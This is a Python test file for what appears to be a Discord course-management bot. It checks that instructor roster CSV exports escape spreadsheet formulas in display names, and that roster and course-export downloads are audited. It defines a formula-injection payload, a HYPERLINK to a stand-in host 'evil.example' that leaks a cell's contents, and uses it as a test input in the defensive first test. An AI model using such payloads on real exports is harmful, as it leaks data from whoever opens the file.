"""What instructors download: rosters are safe to open in a spreadsheet, and every hand-out is audited."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import select

from db.models import AuditLog
from db.session import Database
from sandbox import DiscordSandbox
from tests.cogs.course_fixtures import enrolled_member

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


async def test_a_formula_in_a_display_name_stays_text_in_the_roster_csv(classroom: DiscordSandbox) -> None:
    attacker = await enrolled_member(classroom, "mallory", nick=PAYLOAD)
    await classroom.slash("course enroll", user=classroom.student, course="PY101")

    roster = await classroom.slash("teach roster", user=classroom.instructor, course="PY101")

    (table,) = roster.files
    rows = list(csv.DictReader(io.StringIO(table.data.decode())))
    names = {row["user_id"]: row["display_name"] for row in rows}
    assert names[attacker["user"]["id"]] == "'" + PAYLOAD
    assert names[classroom.student["user"]["id"]] == "Sam"


async def test_the_roster_and_the_package_export_are_audited(
    classroom: DiscordSandbox, database: Database, tmp_path: Path
) -> None:
    await classroom.slash("course enroll", user=classroom.student, course="PY101")

    await classroom.slash("teach roster", user=classroom.instructor, course="PY101")
    await classroom.slash("teach course export", user=classroom.instructor, course="PY101")

    async with database.session_scope() as session:
        rows = list(
            await session.scalars(
                select(AuditLog).where(AuditLog.action.in_(["course.roster", "course.export"])).order_by(AuditLog.id)
            )
        )
    instructor_id = int(classroom.instructor["user"]["id"])
    assert [(row.action, row.actor_id, row.meta) for row in rows] == [
        ("course.roster", instructor_id, {"code": "PY101", "members": 1}),
        ("course.export", instructor_id, {"code": "PY101"}),
    ]
    assert rows[0].guild_id == int(classroom.guild["id"]) and rows[0].target_type == "course"
